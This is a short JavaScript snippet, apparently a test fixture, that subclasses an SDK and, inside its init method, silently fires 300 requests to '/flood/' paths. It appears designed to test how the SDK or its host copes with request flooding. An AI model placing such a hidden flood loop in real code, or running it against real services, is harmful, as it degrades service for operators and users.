expose(
  class extends Sdk {
    init(key, userId, given) {
      super.init(key, userId, given);
      for (let i = 0; i < 300; i++) fetch(`/flood/${i}`).catch(() => undefined);
    }
  },
);
